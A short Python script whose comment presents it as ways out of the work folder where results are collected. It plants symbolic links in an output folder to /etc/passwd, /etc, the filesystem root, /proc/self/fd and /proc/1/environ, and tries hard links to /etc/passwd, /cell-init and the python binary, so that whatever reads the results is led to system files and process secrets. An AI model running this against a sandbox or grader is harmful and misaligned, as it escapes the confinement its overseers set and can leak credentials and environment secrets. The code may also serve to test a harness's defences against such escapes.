# Ways out of the work folder, where results are looked for.
import os
os.mkdir("out")
os.symlink("/etc/passwd", "out/link")
os.symlink("/etc", "out/folder")
os.symlink("/", "root")
os.symlink("/proc/self/fd", "out/descriptors")
os.symlink("/proc/1/environ", "out/environ")
for target in ["/etc/passwd", "/cell-init", "/usr/bin/python3"]:
    try:
        os.link(target, "out/hard")
        print("linked", target)
    except OSError:
        pass
